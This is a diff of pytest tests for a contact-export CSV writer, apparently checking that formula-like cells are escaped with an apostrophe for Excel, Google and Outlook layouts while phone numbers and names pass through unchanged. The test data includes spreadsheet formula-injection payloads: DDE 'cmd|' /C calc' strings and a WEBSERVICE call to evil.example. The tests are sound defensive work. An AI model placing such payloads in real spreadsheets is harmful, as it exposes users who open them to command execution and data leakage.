@@ -524,7 +524,10 @@ def test_would_be_formulas_are_written_as_text_and_read_back_as_they_were(
     path = tmp_path / f"{layout}.csv"
     csv_writer.write_csv(path, [[risky]], layout=layout, most=(2, 1), total=1)
     row = cells(path.read_bytes(), ";" if layout == "excel" else ",")[1]
-    for value in ("=HYPERLINK(", "@SUM(A1:A9)", "-2+3", "+cmd|", "=1+1"):
+    formulas = ["=HYPERLINK(", "@SUM(A1:A9)", "+cmd|", "=1+1"]  # each would reach out of its cell
+    if layout in ("ours", "excel"):  # for a spreadsheet: sums too (not for Google or Outlook)
+        formulas.append("-2+3")
+    for value in formulas:
         assert not any(cell.startswith(value) for cell in row), value  # a spreadsheet runs none
         assert any(cell.startswith("'" + value) for cell in row), value
     assert any("+358 40 123 4567" in cell for cell in row)  # a phone number stays as it is
@@ -537,6 +540,59 @@ def test_would_be_formulas_are_written_as_text_and_read_back_as_they_were(
     assert [number for _, number in back.phones] == ["+358 40 123 4567"]
     if layout != "outlook":  # Outlook's layout has no birthday without a year
         assert back.birthday == date(NO_YEAR, 4, 15)  # "--04-15" is no formula
+
+
+@pytest.mark.parametrize("layout", ["google", "outlook"])
+def test_google_and_outlook_get_what_is_no_formula_as_it_is(
+    tmp_path: Path, layout: csv_writer.Layout
+) -> None:
+    # Both keep a leading apostrophe as part of the value: "'+Plus GmbH" in the address book.
+    plain = [
+        person(
+            company="+Plus GmbH",
+            title="-2+3",
+            phones=(("work", "+81-3-1234-5678 ext. 123"), ("mobile", "+1 (555) 010-9999 x12")),
+            personal_notes="- call back\n- send the offer",
+        ),
+        person(uid="e" * 32, first_name="@anna", company="@SUM Corp", personal_notes="-5 points"),
+    ]
+    path = tmp_path / f"{layout}.csv"
+    csv_writer.write_csv(path, [plain], layout=layout, most=(2, 2), total=2)
+    rows = cells(path.read_bytes())
+    assert not any(cell.startswith("'") for row in rows for cell in row)
+    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    if layout == "google":
+        assert (first["Organization Name"], first["Organization Title"]) == ("+Plus GmbH", "-2+3")
+        assert first["Phone 1 - Value"] == "+81-3-1234-5678 ext. 123"
+        assert first["Phone 2 - Value"] == "+1 (555) 010-9999 x12"
+        assert (second["First Name"], second["Organization Name"]) == ("@anna", "@SUM Corp")
+    else:
+        assert (first["Company"], first["Job Title"]) == ("+Plus GmbH", "-2+3")
+        assert first["Business Phone"] == "+81-3-1234-5678 ext. 123"
+        assert first["Mobile Phone"] == "+1 (555) 010-9999 x12"
+        assert (second["First Name"], second["Company"]) == ("@anna", "@SUM Corp")
+    assert first["Notes"] == "- call back\n- send the offer"
+    assert second["Notes"] == "-5 points"
+
+
+@pytest.mark.parametrize(
+    ("value", "defused"),
+    [
+        ("=1+1", True),
+        ("= see above", True),
+        ("\t=cmd|' /C calc'!A0", True),
+        ("-cmd|' /C calc'!A0", True),
+        ("@SUM (A1:A9)", True),
+        ('+ _xlfn.WEBSERVICE("https://evil.example")', True),
+        ("+49 (89) 1234-5 ext. 6", False),
+        ("+Plus GmbH", False),
+        ("@SUM Corp", False),
+        ("- call back (today)", False),
+        ("--04-15", False),
+    ],
+)
+def test_what_google_and_outlook_get_defused(value: str, defused: bool) -> None:
+    assert csv_writer.defused_for_import([value]) == ["'" + value if defused else value]
 
 
 def test_the_excel_layout_is_ours_with_semicolons_and_reads_back(tmp_path: Path) -> None:
